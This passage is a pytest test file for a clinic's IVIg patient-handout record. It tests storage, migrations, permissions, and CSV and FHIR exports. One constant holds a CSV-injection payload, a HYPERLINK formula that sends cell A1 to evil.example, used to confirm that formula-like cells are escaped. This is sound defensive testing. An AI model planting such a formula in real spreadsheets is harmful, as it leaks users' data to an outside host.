"""The education record: real SQLite files in tmp_path, real processes writing at once, the FHIR export
validated by the fhir.resources package, the CSV read back."""

from __future__ import annotations

import base64
import csv
import errno
import io
import os
import re
import sqlite3
import stat
import subprocess
import sys
import uuid
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest

import ivig_handout
from ivig_handout.api import Request, build, given
from ivig_handout.errors import NotFoundError, OutputError
from ivig_handout.export.sinks.record import (
    MAX_ID,
    MIGRATIONS,
    VERSION,
    Entry,
    Given,
    Record,
    as_csv,
    as_fhir,
    chart_note,
    default_path,
    made_id,
    open_record,
)
from ivig_handout.export.spreadsheet import FORMULA_LEADS, csv_text
from ivig_handout.inputs.patient import Patient

from ..conftest import umask
from ..pgserver import PgServer

SHA = "ab" * 32
NAME = "Zofia Wiśniewska"


def a_given(**changes: object) -> Given:
    fields: dict[str, object] = dict(document="gbs", kind="one-pager", layout="letter", copies=2, sha256=SHA,
                                     edition="c3ad53", source_year=2012, title="IVIg for Guillain-Barré syndrome (GBS)")
    fields.update(changes)
    return Given(**fields)  # type: ignore[arg-type]


def one_line(exc: pytest.ExceptionInfo[Exception]) -> str:
    text = str(exc.value)
    assert "\n" not in text and text, text
    return text


# --- adding and reading ---------------------------------------------------------------------------

BACKENDS = ["sqlite", "postgresql"]


@pytest.fixture(params=BACKENDS)
def target(request: pytest.FixtureRequest, tmp_path: Path) -> str | Path:
    """Issue 24: a new record on each backend: an SQLite file, and a new database of the session's
    PostgreSQL server (tests/pgserver.py)."""
    if request.param == "sqlite":
        return tmp_path / "record.sqlite3"
    server: PgServer = request.getfixturevalue("pg_server")
    return server.url(server.database())


def backdate(target: str | Path, request: pytest.FixtureRequest, entry_id: int, when: datetime) -> None:
    """Make row ``entry_id`` as if it had been given at ``when`` (the record itself never changes a row)."""
    if isinstance(target, Path):
        with sqlite3.connect(target) as conn:
            conn.execute("UPDATE given SET at = ? WHERE id = ?", (when.isoformat(timespec="microseconds"), entry_id))
        conn.close()
        return
    server: PgServer = request.getfixturevalue("pg_server")
    server.sql(f"UPDATE given SET at = '{when.isoformat()}' WHERE id = {entry_id}", target.rsplit("/", 1)[1])


def test_a_row_reads_back_as_it_was_added(target: str | Path) -> None:
    record = open_record(target)
    before = datetime.now(UTC)
    first = record.add(a_given(printer="clinic", job_id="clinic-42", by="AB"))
    second = record.add(a_given(document="mg", copies=1))
    assert (first.id, second.id) == (1, 2)
    assert first.given == a_given(printer="clinic", job_id="clinic-42", by="AB")
    assert first.when.tzinfo is not None and before <= first.when <= datetime.now(UTC)
    again = open_record(target)  # another opening of the same record
    assert again.entries() == [first, second]
    assert again.get(2) == second
    with pytest.raises(NotFoundError) as exc:
        again.get(3)
    assert again.where in one_line(exc) and "record list" in str(exc.value)


def test_a_days_rows_are_added_in_one_transaction(target: str | Path) -> None:
    """add_all: a roster's 500 rows in order with consecutive ids, one write; a bad row adds none."""
    record = open_record(target)
    record.add(a_given())
    made = record.add_all([a_given(document="mg", copies=1 + i % 3) for i in range(500)])
    assert [e.id for e in made] == list(range(2, 502))
    assert [e.given for e in record.entries()[1:]] == [e.given for e in made]
    with pytest.raises(ValueError, match="copies"):  # every row is checked before any is added
        record.add_all([a_given(), a_given(copies=0)])
    assert len(record.entries()) == 501


def test_entries_since_a_day_or_a_time(target: str | Path, request: pytest.FixtureRequest) -> None:
    record = open_record(target)
    old = record.add(a_given(document="cidp"))
    backdate(target, request, old.id, datetime.now(UTC) - timedelta(days=3))  # as if given three days ago
    new = record.add(a_given())
    assert [e.id for e in record.entries()] == [old.id, new.id]
    assert [e.id for e in record.entries(date.today())] == [new.id]
    assert [e.id for e in record.entries(date.today() - timedelta(days=4))] == [old.id, new.id]
    assert [e.id for e in record.entries(datetime.now() - timedelta(hours=1))] == [new.id]  # naive: local time
    assert record.entries(datetime.now(UTC) + timedelta(seconds=5)) == []


def test_the_first_and_last_days_and_ids_sqlite_cannot_hold(target: str | Path) -> None:
    """The calendar's edges (local midnight of 0001-01-01 is in year 0 east of UTC) and ids past SQLite's
    largest INTEGER are before, after or beside every row, not an OverflowError or ValueError."""
    record = open_record(target)
    entry = record.add(a_given())
    assert record.entries(date(1, 1, 1)) == [entry] and record.entries(datetime(1, 1, 1)) == [entry]
    assert record.entries(date(9999, 12, 31)) == [] and record.entries(datetime.max) == []
    for number in (MAX_ID, MAX_ID + 1, 2**100, 0, -1, -(2**63) - 1):
        with pytest.raises(NotFoundError) as exc:
            record.get(number)
        assert one_line(exc).startswith(f"no handout number {number} in the record ")


def test_the_file_is_private_and_the_default_is_in_the_data_folder(tmp_path: Path,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    assert default_path() == tmp_path / "data" / "ivig-handout" / "record.sqlite3"
    with umask(0o022):
        record = Record()
        with sqlite3.connect(record.path) as conn:  # a reader keeps the -wal and -shm files open
            conn.execute("SELECT count(*) FROM given").fetchone()
            record.add(a_given())
            modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in record.path.parent.iterdir()}
    assert record.path == default_path()
    assert modes == {"record.sqlite3": 0o600, "record.sqlite3-wal": 0o600, "record.sqlite3-shm": 0o600}, modes
    assert stat.S_IMODE((tmp_path / "data" / "ivig-handout").stat().st_mode) == 0o700
    assert stat.S_IMODE((tmp_path / "data").stat().st_mode) == 0o700  # every folder it made
    with sqlite3.connect(record.path) as conn:
        assert conn.execute("PRAGMA journal_mode").fetchone() == ("wal",)


# --- names ----------------------------------------------------------------------------------------

def profile(tmp_path: Path, record_names: str | None) -> Path:
    path = tmp_path / f"clinic-{record_names}.yaml"
    path.write_text("name: Springfield Neurology\n" + (f"record_names: {record_names}\n" if record_names else ""),
                    encoding="utf-8")
    return path


def raw_bytes(path: Path) -> bytes:
    """The record's file and its write-ahead log, as bytes on disk."""
    return b"".join(p.read_bytes() for p in path.parent.glob(path.name + "*"))


@pytest.mark.parametrize("switch", [None, "no", "yes"])
def test_names_are_kept_only_when_the_clinic_says_so(tmp_path: Path, switch: str | None) -> None:
    path = tmp_path / "record.sqlite3"
    result = build(Request("gbs", clinic=profile(tmp_path, switch), patient=Patient(NAME, "1 Dec 2026")))
    assert result.personal
    record = Record(path)
    with sqlite3.connect(path):  # keeps the write-ahead log on disk while the bytes are read
        entry = record.add(given(result, copies=2, by="AB"))
        on_disk = raw_bytes(path)
    kept = switch == "yes"
    assert entry.patient == (NAME if kept else None)
    assert (NAME.encode() in on_disk) is kept
    assert "Wiśniewska" not in chart_note(entry)  # the chart already names the patient
    assert entry.title == "IVIg for Guillain-Barré syndrome (GBS)" and entry.source_year == 2012
    assert re.fullmatch(r"[0-9a-f]{6}", entry.edition)
    import hashlib

    assert entry.sha256 == hashlib.sha256(result.data).hexdigest()
    assert (entry.document, entry.kind, entry.layout, entry.copies, entry.by) == ("gbs", "one-pager", "letter", 2, "AB")


def test_the_edition_is_the_content_packs_hash(pack: Path) -> None:
    from ivig_handout.inputs.content import load_handout

    bundled = load_handout().edition
    assert load_handout(pack).edition == bundled  # the same words, wherever they are
    with (pack / "corrections.yaml").open("a", encoding="utf-8") as fh:
        fh.write("\n# reviewed again\n")
    assert load_handout(pack).edition != bundled


# --- several processes at once --------------------------------------------------------------------

WRITER = """
import sys
import uuid
from pathlib import Path
from ivig_handout.export.sinks.record import Given, Record
path, who, rows = Path(sys.argv[1]), sys.argv[2], int(sys.argv[3])
print("ready", flush=True)
sys.stdin.readline()  # all start together, once every one has imported
record = Record(path)
for i in range(rows):
    record.add(Given("gbs", "one-pager", "letter", 1, "ab" * 32, "c3ad53", 2012, job_id=f"{who}-{i}"))
"""


def test_processes_writing_at_once_all_get_their_rows(tmp_path: Path) -> None:
    """4 processes x 50 rows, all opening a record that does not exist yet at the same moment."""
    path = tmp_path / "record.sqlite3"
    src = Path(ivig_handout.__file__).parents[1]
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(src), os.environ.get("PYTHONPATH", "")])}
    procs = [subprocess.Popen([sys.executable, "-c", WRITER, str(path), f"p{n}", "50"], stdin=subprocess.PIPE,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env) for n in range(4)]
    for proc in procs:
        assert proc.stdout is not None and proc.stdout.readline() == b"ready\n"
    for proc in procs:
        assert proc.stdin is not None
        proc.stdin.write(b"go\n")
        proc.stdin.flush()
    for proc in procs:
        _, err = proc.communicate(timeout=120)
        assert proc.returncode == 0, err.decode()
    entries = Record(path).entries()
    assert len(entries) == 200
    assert len({e.id for e in entries}) == 200
    assert {e.job_id for e in entries} == {f"p{n}-{i}" for n in range(4) for i in range(50)}
    for n in range(4):  # each process's rows in the order it added them
        mine = [e.job_id for e in entries if e.job_id and e.job_id.startswith(f"p{n}-")]
        assert mine == [f"p{n}-{i}" for i in range(50)]


# --- schema versions and migrations ---------------------------------------------------------------

def version_1_file(path: Path) -> None:
    """A record as the first version of the schema left it, with one row."""
    with sqlite3.connect(path) as conn:
        for statement in MIGRATIONS[0]:
            conn.execute(statement)
        conn.execute("INSERT INTO schema_version VALUES (1)")
        conn.execute("INSERT INTO given (at, document, title, kind, layout, copies, sha256, edition, source_year) "
                     "VALUES ('2026-11-30T09:00:00.000000+00:00', 'mg', 'IVIg for Myasthenia gravis (MG)', "
                     f"'one-pager', 'a4', 1, '{SHA}', 'c3ad53', 2012)")
    conn.close()


def schema(path: Path) -> tuple[int, set[str]]:
    with sqlite3.connect(path) as conn:
        version = conn.execute("SELECT version FROM schema_version").fetchall()
        indexes = {row[0] for row in conn.execute("SELECT name FROM sqlite_master WHERE type = 'index'")}
    conn.close()
    assert len(version) == 1
    return version[0][0], indexes


def test_a_version_1_record_is_migrated_and_keeps_its_rows(tmp_path: Path) -> None:
    path = tmp_path / "old.sqlite3"
    version_1_file(path)
    assert schema(path) == (1, set())
    record = Record(path)
    assert VERSION == 5 and schema(path) == (5, {"given_at", "given_made", "given_uuid"})
    (old,) = record.entries()
    assert (old.id, old.document, old.layout, old.when) == (1, "mg", "a4", datetime(2026, 11, 30, 9, tzinfo=UTC))
    assert (old.made, old.reprint_of, old.void_at, old.void_by) == (None, None, None, None)  # a first handout
    assert record.add(a_given()).id == 2
    Record(path)  # opening an up-to-date file changes nothing
    assert schema(path) == (5, {"given_at", "given_made", "given_uuid"})


def test_a_record_from_a_newer_version_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "new.sqlite3"
    Record(path).add(a_given())
    with sqlite3.connect(path) as conn:
        conn.execute("UPDATE schema_version SET version = ?", (VERSION + 1,))
    conn.close()
    before = path.read_bytes()
    with pytest.raises(OutputError) as exc:
        Record(path)
    assert one_line(exc) == (f"{path}: was written by a newer ivig-handout (record version {VERSION + 1}; this one "
                             f"reads up to {VERSION}); upgrade ivig-handout")
    assert path.read_bytes() == before


# --- files that are not a record ------------------------------------------------------------------

def not_sqlite(tmp_path: Path) -> Path:
    path = tmp_path / "notes.txt"
    path.write_bytes(b"these are not the records you are looking for\n" * 100)
    return path


def another_programs(tmp_path: Path) -> Path:
    path = tmp_path / "other.sqlite3"
    with sqlite3.connect(path) as conn:
        conn.execute("CREATE TABLE contacts (name TEXT)")
    conn.close()
    return path


def a_folder(tmp_path: Path) -> Path:
    return tmp_path


def read_only(tmp_path: Path) -> Path:
    path = tmp_path / "record.sqlite3"
    Record(path)
    path.chmod(0o444)
    return path


def under_a_file(tmp_path: Path) -> Path:
    (tmp_path / "plain").write_text("x", encoding="utf-8")
    return tmp_path / "plain" / "record.sqlite3"


def a_fifo(tmp_path: Path) -> Path:
    os.mkfifo(tmp_path / "pipe")
    return tmp_path / "pipe"


def damaged_version(tmp_path: Path) -> Path:
    path = tmp_path / "record.sqlite3"
    Record(path)
    with sqlite3.connect(path) as conn:
        conn.execute("INSERT INTO schema_version VALUES (1)")
    conn.close()
    return path


BAD = {
    not_sqlite: "is not an ivig-handout record (not an SQLite database); give another file",
    another_programs: "is an SQLite database of another program, not an ivig-handout record; give another file",
    a_folder: "is a folder; give the record's file name, such as",
    read_only: "the record cannot be written (mode -r--r--r--); make it writable (chmod u+rw) or give another file",
    under_a_file: "cannot be the record because {tmp}/plain is a file, not a folder",
    a_fifo: "is not a regular file, so it cannot be the record; give a file name",
    damaged_version: "the record's schema_version table is damaged; restore the file from a backup",
}


@pytest.mark.parametrize("make", list(BAD), ids=lambda f: f.__name__)
def test_what_is_not_a_record_is_one_line_naming_it(tmp_path: Path, make) -> None:  # type: ignore[no-untyped-def]
    path = make(tmp_path)
    before = sorted(p.name for p in tmp_path.iterdir())
    with pytest.raises(OutputError) as exc:
        Record(path)
    text = one_line(exc)
    assert text.startswith(f"{path}: ") and BAD[make].format(tmp=tmp_path) in text, text
    assert sorted(p.name for p in tmp_path.iterdir()) == before  # nothing made beside it


# --- an existing record others can read, a table that lacks a column, a read-only record -----------

def modes(folder: Path) -> dict[str, int]:
    return {p.name: stat.S_IMODE(p.stat().st_mode) for p in folder.iterdir()}


@pytest.mark.parametrize("loose", [0o644, 0o640, 0o604, 0o666])
def test_a_record_others_can_read_is_made_private_when_opened_to_write(tmp_path: Path, loose: int) -> None:
    path = tmp_path / "record.sqlite3"
    Record(path).add(a_given(patient=NAME))
    with sqlite3.connect(path) as reader:  # another program has it open: its -wal and -shm are there too
        reader.execute("SELECT count(*) FROM given").fetchone()
        for file in tmp_path.iterdir():
            file.chmod(loose)
        assert set(modes(tmp_path).values()) == {loose} and len(modes(tmp_path)) == 3
        Record(path, read_only=True).entries()  # reading changes nothing
        assert set(modes(tmp_path).values()) == {loose}
        record = Record(path)  # before a name can go in
        assert modes(tmp_path) == {"record.sqlite3": 0o600, "record.sqlite3-wal": 0o600, "record.sqlite3-shm": 0o600}
        record.add(a_given(patient=NAME))
    reader.close()
    assert modes(tmp_path) == {"record.sqlite3": 0o600}
    assert [e.patient for e in Record(path).entries()] == [NAME, NAME]


def test_a_record_others_can_read_that_cannot_be_made_private_is_refused(tmp_path: Path,
                                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    """As when the file is another user's (chmod: EPERM; root may chmod any file, so the refusal is made
    here by chmod itself)."""
    path = tmp_path / "record.sqlite3"
    Record(path).add(a_given())
    path.chmod(0o644)
    before = path.read_bytes()

    def not_yours(self: Path, mode: int, **_: object) -> None:
        raise PermissionError(errno.EPERM, os.strerror(errno.EPERM), str(self))

    monkeypatch.setattr(Path, "chmod", not_yours)
    with pytest.raises(OutputError) as exc:
        Record(path)
    assert one_line(exc) == (f"{path}: others can read record.sqlite3 (-rw-r--r--) and it cannot be made private "
                             f"(Operation not permitted); ask its owner to run chmod 600 {path}, or give another file")
    monkeypatch.undo()
    assert path.read_bytes() == before and stat.S_IMODE(path.stat().st_mode) == 0o644
    assert len(Record(path, read_only=True).entries()) == 1  # it can still be read


@pytest.mark.parametrize("column", ["patient", "job_id", "title", "copies"])
def test_a_table_without_a_column_is_refused_when_opened(tmp_path: Path, column: str) -> None:
    path = tmp_path / "record.sqlite3"
    Record(path).add(a_given())
    with sqlite3.connect(path) as conn:
        conn.execute(f"ALTER TABLE given DROP COLUMN {column}")
    conn.close()
    before = path.read_bytes()
    for read_only in (False, True):
        with pytest.raises(OutputError) as exc:
            Record(path, read_only=read_only)
        assert one_line(exc) == (f"{path}: the record's table 'given' has no column '{column}'; restore the file "
                                 "from a backup or give another file")
    assert path.read_bytes() == before


def test_a_record_without_its_table_is_refused_when_opened(tmp_path: Path) -> None:
    path = tmp_path / "record.sqlite3"
    Record(path)
    with sqlite3.connect(path) as conn:
        conn.execute("DROP TABLE given")
    conn.close()
    with pytest.raises(OutputError) as exc:
        Record(path)
    assert one_line(exc) == f"{path}: the record has no table 'given'; restore the file from a backup or give another file"


def test_a_read_only_record_is_read_and_left_as_it_was(tmp_path: Path) -> None:
    """A 0444 file (in a folder whose name a URI must escape): read, not written, and nothing made beside
    it (SQLite's reader would leave a read-only -shm there that stops later writes)."""
    folder = tmp_path / "records? #1 100%"
    folder.mkdir()
    path = folder / "record.sqlite3"
    added = Record(path).add_all([a_given(), a_given(document="mg", patient=NAME)])
    path.chmod(0o444)
    before = (path.read_bytes(), path.stat().st_mtime_ns, sorted(os.listdir(folder)))
    reader = Record(path, read_only=True)
    assert reader.entries() == added and reader.get(2) == added[1] and reader.entries(date(9999, 12, 31)) == []
    with pytest.raises(ValueError, match="read-only"):
        reader.add(a_given())
    assert (path.read_bytes(), path.stat().st_mtime_ns, sorted(os.listdir(folder))) == before
    path.chmod(0o600)
    assert Record(path).add(a_given()).id == 3  # and it can be written again once it is writable


def test_a_reader_of_a_read_only_record_sees_rows_still_in_the_write_ahead_log(tmp_path: Path) -> None:
    path = tmp_path / "record.sqlite3"
    record = Record(path)
    with sqlite3.connect(path) as held:  # another program keeps it open: new rows stay in the -wal
        held.execute("SELECT count(*) FROM given").fetchone()
        added = record.add(a_given())
        assert (tmp_path / "record.sqlite3-wal").stat().st_size > 0
        path.chmod(0o444)
        assert Record(path, read_only=True).entries() == [added]
    held.close()


def test_reading_an_older_record_does_not_migrate_it(tmp_path: Path) -> None:
    path = tmp_path / "old.sqlite3"
    version_1_file(path)
    before = path.read_bytes()
    (old,) = Record(path, read_only=True).entries()
    assert (old.id, old.document) == (1, "mg")
    assert path.read_bytes() == before and schema(path) == (1, set())
    assert sorted(p.name for p in tmp_path.iterdir()) == ["old.sqlite3"]
    empty = tmp_path / "empty.sqlite3"
    empty.touch()  # a new record not written to yet (version 0): nothing in it
    assert Record(empty, read_only=True).entries() == [] and empty.read_bytes() == b""
    with pytest.raises(OutputError) as exc:
        Record(tmp_path / "none.sqlite3", read_only=True)
    assert one_line(exc).startswith(f"{tmp_path / 'none.sqlite3'}: there is no record here")
    assert not (tmp_path / "none.sqlite3").exists()


# --- what the record says -------------------------------------------------------------------------

WHEN = datetime(2026, 12, 1, 15, 4, 5, tzinfo=UTC)


def an_entry(id: int = 7, **changes: object) -> Entry:
    return Entry(**a_given(**changes).__dict__, id=id, when=WHEN)


def test_the_chart_note(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TZ", "UTC")
    import time

    time.tzset()
    try:
        assert chart_note(an_entry()) == ('Gave the AAN handout "IVIg for Guillain-Barré syndrome (GBS)", letter, '
                                          "2012 edition c3ad53, 2 copies, 2026-12-01")
        full = an_entry(document="full", kind="full-sheet", layout="large-print", copies=1, printer="clinic",
                        job_id="clinic-42", by="AB", patient=NAME,
                        title="IV Immunoglobulin for Treating Neuromuscular Disorders")
        assert chart_note(full) == ('Gave the AAN handout "IV Immunoglobulin for Treating Neuromuscular Disorders", '
                                    "large-print, 2012 edition c3ad53, 1 copy, 2026-12-01, printed on clinic "
                                    "(job clinic-42), by AB")
        monkeypatch.setenv("TZ", "Pacific/Kiritimati")  # UTC+14: already the next day there
        time.tzset()
        assert chart_note(an_entry(printer="front-desk")).endswith("2 copies, 2026-12-02, printed on front-desk")
    finally:
        monkeypatch.undo()
        time.tzset()


def test_the_csv_reads_back() -> None:
    entries = [an_entry(), an_entry(document="mg", title='IVIg for "MG", with a comma', printer="clinic",
                                    job_id="clinic-7", by="AB", patient=NAME)]
    rows = list(csv.DictReader(io.StringIO(as_csv(entries))))
    assert [r["id"] for r in rows] == ["7", "7"]  # (two exports of one entry, to check quoting)
    assert rows[0] == {"id": "7", "when": "2026-12-01T15:04:05+00:00", "document": "gbs",
                       "title": "IVIg for Guillain-Barré syndrome (GBS)", "kind": "one-pager", "layout": "letter",
                       "copies": "2", "edition": "c3ad53", "source_year": "2012", "printer": "", "job_id": "",
                       "by": "", "patient": "", "sha256": SHA, "reprint_of": "", "void_at": "", "void_by": "",
                       "uuid": as_fhir(entries[:1])["entry"][0]["fullUrl"].removeprefix("urn:uuid:"),
                           "language": "", "pack_edition": ""}
    assert (rows[1]["title"], rows[1]["patient"], rows[1]["job_id"]) == ('IVIg for "MG", with a comma', NAME,
                                                                        "clinic-7")
    assert as_csv([]).splitlines() == [",".join(f'"{name}"' for name in rows[0])]


HOSTILE = 'HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("lead", sorted(FORMULA_LEADS), ids=repr)
def test_csv_cells_that_start_like_a_formula_open_as_text(lead: str) -> None:
    """OWASP's CSV injection: every text cell that starts with = + - @ TAB CR gets a leading quote;
    ids, copies and years are numbers, written bare (QUOTE_NONNUMERIC reads them back as numbers)."""
    value = lead + HOSTILE
    entry = an_entry(title=value, printer=value, job_id=value, by=value, patient=value)
    text = as_csv([entry])
    header, row = csv.reader(io.StringIO(text, newline=""))
    cells = dict(zip(header, row, strict=True))
    assert {cells[k] for k in ("title", "printer", "job_id", "by", "patient")} == {"'" + value}
    assert (cells["id"], cells["copies"], cells["source_year"], cells["document"]) == ("7", "2", "2012", "gbs")
    _, typed = csv.reader(io.StringIO(text, newline=""), quoting=csv.QUOTE_NONNUMERIC)
    assert [typed[header.index(k)] for k in ("id", "copies", "source_year")] == [7.0, 2.0, 2012.0]
    assert text.splitlines()[1].startswith('7,"2026-12-01T15:04:05+00:00","gbs",')


def test_csv_cells_that_do_not_start_like_a_formula_are_left_alone() -> None:
    names = ["Ann = Lee", "Ann-Marie O'Neil", "'quoted already", "José @ home", " =spaced", "Ann;=1+1", ""]
    header, *rows = csv.reader(io.StringIO(csv_text(["name", "n"], [[n, -3] for n in names] + [[None, 0]])))
    assert header == ["name", "n"] and rows == [[n, "-3"] for n in names] + [["", "0"]]  # numbers: as they are


# Codes the FHIR R4 specification defines (fhir.resources checks the shapes, not these value sets):
# Bundle.type (http://hl7.org/fhir/R4/valueset-bundle-type.html), Communication.status (event-status),
# the communication-category code system and v3 ParticipationMode (terminology.hl7.org).
BUNDLE_TYPES = {"document", "message", "transaction", "transaction-response", "batch", "batch-response", "history",
                "searchset", "collection"}
EVENT_STATUS = {"preparation", "in-progress", "not-done", "on-hold", "stopped", "completed", "entered-in-error",
                "unknown"}
CODE_SYSTEMS = {
    "http://terminology.hl7.org/CodeSystem/communication-category": {"alert", "notification", "reminder",
                                                                     "instruction"},
    "http://terminology.hl7.org/CodeSystem/v3-ParticipationMode": {
        "ELECTRONIC", "PHYSICAL", "REMOTE", "VERBAL", "DICTATE", "FACE", "PHONE", "VIDEOCONF", "WRITTEN", "FAXWRIT",
        "HANDWRIT", "MAILWRIT", "ONLINEWRIT", "EMAILWRIT", "TYPEWRIT"},
}
DATETIME = re.compile(r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?(Z|[+-]\d{2}:\d{2})")


def test_the_fhir_bundle_is_valid_r4() -> None:
    from fhir.resources.R4B.bundle import Bundle

    named = an_entry(id=8, by="AB", patient=NAME, printer="clinic", job_id="clinic-42")
    plain = an_entry()
    bundle = as_fhir([plain, named])
    parsed = Bundle.model_validate(bundle)  # raises on any element that R4(B) does not allow
    assert parsed.type == "collection" and len(parsed.entry) == 2
    assert bundle["type"] in BUNDLE_TYPES
    urls = [item["fullUrl"] for item in bundle["entry"]]
    assert len(set(urls)) == 2 and all(re.fullmatch(r"urn:uuid:[0-9a-f-]{36}", u) for u in urls)
    assert as_fhir([plain, named]) == bundle  # the same UUIDs every time it is exported
    for item, entry in zip(bundle["entry"], [plain, named], strict=True):
        resource = item["resource"]
        assert resource["resourceType"] == "Communication" and resource["status"] in EVENT_STATUS
        assert resource["status"] == "completed"
        assert resource["identifier"] == [{"system": "urn:ietf:rfc:3986", "value": item["fullUrl"]}]
        for concept in resource["category"] + resource["medium"]:
            for coding in concept["coding"]:
                assert coding["code"] in CODE_SYSTEMS[coding["system"]], coding
        assert resource["category"][0]["coding"][0]["code"] == "instruction"
        assert resource["medium"][0]["coding"][0]["code"] == "WRITTEN"
        assert DATETIME.fullmatch(resource["sent"]) and resource["sent"] == "2026-12-01T15:04:05+00:00"
        (payload,) = resource["payload"]
        attachment = payload["contentAttachment"]
        assert attachment["contentType"] == "application/pdf"
        assert attachment["title"] == "IVIg for Guillain-Barré syndrome (GBS)"
        prefix, _, digest = attachment["url"].partition(";")
        assert prefix == "ni:///sha-256"  # RFC 6920: the PDF named by its SHA-256
        assert base64.urlsafe_b64decode(digest + "=" * (-len(digest) % 4)).hex() == entry.sha256
        assert resource["note"] == [{"text": chart_note(entry)}]
    assert "subject" not in bundle["entry"][0]["resource"] and "sender" not in bundle["entry"][0]["resource"]
    assert bundle["entry"][1]["resource"]["subject"] == {"display": NAME}
    assert bundle["entry"][1]["resource"]["sender"] == {"display": "AB"}
    assert as_fhir([]) == {"resourceType": "Bundle", "type": "collection"}  # FHIR allows no empty arrays
    assert Bundle.model_validate(as_fhir([])).entry is None


# --- reprints and voided rows (version 3) ----------------------------------------------------------

def version_2_file(path: Path) -> None:
    """A record as version 2 left it (version 1 and its index), with one row."""
    version_1_file(path)
    with sqlite3.connect(path) as conn:
        for statement in MIGRATIONS[1]:
            conn.execute(statement)
        conn.execute("UPDATE schema_version SET version = 2")
    conn.close()


def test_a_version_2_record_reads_as_it_is_and_is_migrated_when_written(tmp_path: Path) -> None:
    path = tmp_path / "old.sqlite3"
    version_2_file(path)
    (read,) = Record(path, read_only=True).entries()  # reading never migrates
    assert (read.id, read.reprint_of, read.void) == (1, None, False) and schema(path) == (2, {"given_at"})
    record = Record(path)
    assert schema(path) == (5, {"given_at", "given_made", "given_uuid"})
    made = made_id(SHA, 2)
    first, again = record.add_all([a_given(made=made), a_given(made=made)])
    assert (first.reprint_of, again.reprint_of) == (None, first.id)  # the old row (no id) is not matched
    assert [e.reprint_of for e in Record(path, read_only=True).entries()] == [None, None, 2]


def test_the_same_document_again_is_a_reprint_of_the_first_row(target: str | Path) -> None:
    record = open_record(target)
    made = made_id(SHA, 2)
    first = record.add(a_given(made=made))
    assert first.reprint_of is None
    assert record.add(a_given(made=made)).reprint_of == first.id
    assert record.add(a_given(made=made_id(SHA, 3), copies=3)).reprint_of is None  # more copies: a new handout
    assert record.add(a_given()).reprint_of is None  # no id (a handout without a name): never matched
    said = record.add(a_given(reprint_of=2))  # "Download again" of a reprint: a reprint of the first
    assert said.reprint_of == first.id and record.get(said.id).reprint_of == first.id
    with pytest.raises(NotFoundError):
        record.add(a_given(reprint_of=99))
    assert [e.reprint_of for e in record.entries()] == [None, 1, None, None, 1]


def test_a_voided_row_is_kept_marked_with_who_and_when(target: str | Path) -> None:
    record = open_record(target)
    made = made_id(SHA, 2)
    first = record.add(a_given(made=made))
    voided = record.void(first.id, "AB")
    assert voided.void and voided.void_by == "AB" and voided.void_at is not None
    assert record.void(first.id, "CD") == voided  # the first void stands
    assert record.add(a_given(made=made)).reprint_of is None  # the first was a mistake: this is the handout
    with pytest.raises(NotFoundError):
        record.void(42, "AB")
    entries = open_record(target, read_only=True).entries()
    assert [(e.id, e.void_by) for e in entries] == [(1, "AB"), (2, None)]  # nothing deleted


def test_exports_say_what_a_reprint_and_a_void_row_are() -> None:
    from fhir.resources.R4B.bundle import Bundle

    first = an_entry(id=1)
    again = an_entry(id=2, reprint_of=1, by="AB")
    void = Entry(**a_given().__dict__, id=3, when=WHEN, void_at=WHEN, void_by="CD")
    lonely = an_entry(id=4, reprint_of=1)
    rows = list(csv.DictReader(io.StringIO(as_csv([first, again, void]))))
    assert [(r["id"], r["reprint_of"], r["void_at"], r["void_by"]) for r in rows] == [
        ("1", "", "", ""), ("2", "1", "", ""), ("3", "", "2026-12-01T15:04:05+00:00", "CD")]
    assert chart_note(again).endswith(", by AB, a reprint of handout 1")
    assert chart_note(void).startswith("VOID (undone by CD on ") and "; not given): Gave the AAN handout" in chart_note(void)
    bundle = as_fhir([first, again, void])
    Bundle.model_validate(bundle)
    resources = [item["resource"] for item in bundle["entry"]]
    assert [r["status"] for r in resources] == ["completed", "completed", "entered-in-error"]
    assert resources[1]["partOf"] == [{"reference": bundle["entry"][0]["fullUrl"]}] and "partOf" not in resources[0]
    alone = as_fhir([lonely])  # the first handout is not in this export (an earlier day)
    Bundle.model_validate(alone)
    assert alone["entry"][0]["resource"]["partOf"] == [{"display": "handout 1"}]


def version_3_file(path: Path) -> None:
    """A record as version 3 left it (the last before rows had UUIDs), with one row and a void mark."""
    version_2_file(path)
    with sqlite3.connect(path) as conn:
        for statement in MIGRATIONS[2]:
            assert isinstance(statement, str)
            conn.execute(statement)
        conn.execute("INSERT INTO void (given_id, at, staff) VALUES (1, '2026-11-30T10:00:00.000000+00:00', 'AB')")
        conn.execute("UPDATE schema_version SET version = 3")
    conn.close()


def test_a_version_3_record_gets_uuids_and_its_fhir_export_stays_the_same(tmp_path: Path) -> None:
    """Issue 24: migration 4 gives each older row the UUID its FHIR export always had (what was sent
    stays the same), and each new row a UUID of its own; both unique."""
    path = tmp_path / "old.sqlite3"
    version_3_file(path)
    before = as_fhir(Record(path, read_only=True).entries())  # read as it is, not migrated
    assert schema(path) == (3, {"given_at", "given_made"})
    record = Record(path)
    assert schema(path) == (5, {"given_at", "given_made", "given_uuid"})
    assert as_fhir(record.entries()) == before
    (old,) = record.entries()
    new = record.add(a_given())
    assert before["entry"][0]["fullUrl"] == f"urn:uuid:{old.uuid}" and old.void_by == "AB"
    assert len({old.uuid, new.uuid}) == 2 and str(uuid.UUID(new.uuid)) == new.uuid
    with sqlite3.connect(path) as conn:
        stored = [row[0] for row in conn.execute("SELECT uuid FROM given ORDER BY id")]
    conn.close()
    assert stored == [old.uuid, new.uuid]


def test_a_givens_fields_are_asdicts_without_the_deep_copy() -> None:
    """Issue 25: add_all copies a Given's fields without dataclasses.asdict's deep copy; that is the same
    only while every field is a string, a number or None (a new field of another type fails here)."""
    from dataclasses import asdict, fields

    from ivig_handout.export.sinks.record import given_fields

    row = Given("gbs", "one-pager", "letter", 2, "ab" * 32, "e1", 2012, "desk", "17", "JS", "Ana Lima", "GBS",
